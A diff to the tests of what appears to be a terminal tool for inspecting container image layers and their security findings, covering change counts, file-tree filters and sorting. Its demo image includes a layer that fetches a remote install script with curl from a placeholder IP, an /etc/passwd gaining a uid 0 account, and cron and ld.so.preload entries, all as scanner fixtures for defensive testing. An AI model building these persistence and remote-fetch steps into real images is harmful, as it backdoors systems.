@@ -63,7 +63,7 @@ async def test_layer_rows_show_changes_and_findings_by_severity(demo):
     assert changes == "+9 ~0 -0" and findings == "2C 9H 2M 1L"
     assert created.startswith("RUN curl -fsSL http://203.0.113.7/install.sh")
     assert table.get_row_at(4)[2].plain == "+0 ~0 -2"
-    assert table.get_row_at(5)[2].plain == "+7 ~1 -0"
+    assert table.get_row_at(5)[2].plain == "+7 ~2 -0"  # curl patched, /etc/passwd gains a uid 0
 
 
 async def test_layer_details_say_digest_media_type_and_integrity(demo):
@@ -104,18 +104,19 @@ async def test_filters_added_modified_deleted_unchanged_and_flagged(demo):
     app, pilot = demo
     tree = app.query_one(FileTree)
     await pilot.press("c")  # changes only at layer 5
-    assert children(tree) == ["/bin", "/root", "/usr", "/var"]
+    assert children(tree) == ["/bin", "/etc", "/root", "/usr", "/var"]
     assert "showing A M D" in tree.border_title
-    await pilot.press("a")  # hide added: only the modified curl is left
-    assert children(tree) == ["/usr"] and children(tree, "/usr") == ["/usr/bin"]
+    await pilot.press("a")  # hide added: only the modified curl and passwd are left
+    assert children(tree) == ["/etc", "/usr"] and children(tree, "/usr") == ["/usr/bin"]
+    assert children(tree, "/etc") == ["/etc/passwd"]
     await pilot.press("0")
     assert "/etc" in children(tree) and "/tmp" in children(tree)
     await pilot.press("exclamation_mark")  # flagged only: copies with findings visible at layer 5
     assert children(tree) == ["/bin", "/etc", "/root", "/var"]
-    assert children(tree, "/etc") == ["/etc/cron.d", "/etc/ld.so.preload"]
+    assert children(tree, "/etc") == ["/etc/cron.d", "/etc/ld.so.preload", "/etc/passwd"]
     assert "flagged only" in tree.border_title
     await pilot.press("exclamation_mark", "u")  # hide unchanged only: same as changes only
-    assert children(tree) == ["/bin", "/root", "/usr", "/var"]
+    assert children(tree) == ["/bin", "/etc", "/root", "/usr", "/var"]
     await pilot.press("left_square_bracket")  # the filters stay when the layer changes
     await wait_for_tree(pilot)
     assert children(tree) == ["/srv", "/tmp"]
@@ -225,9 +226,11 @@ async def test_the_demo_is_written_once_into_the_user_cache(tmp_path, monkeypatc
 async def test_clicking_a_column_header_sorts_the_findings(demo):
     app, pilot = demo
     table = app.query_one(FindingsTable)
-    await pilot.click(FindingsTable, offset=(28, 1))  # the "category" header, below the border
-    await pilot.pause()
-    assert table.sort_by == "category"
-    await pilot.click(FindingsTable, offset=(13, 1))  # "layer"
+    await pilot.click(FindingsTable, offset=(13, 1))  # the "layer" header, below the border
     await pilot.pause()
     assert table.sort_by == "layer"
+    layers = [f.layer for f in table.findings if f.layer is not None]
+    assert layers == sorted(layers) and len(set(layers)) > 1
+    await pilot.click(FindingsTable, offset=(3, 1))  # "severity"
+    await pilot.pause()
+    assert table.sort_by == "severity"
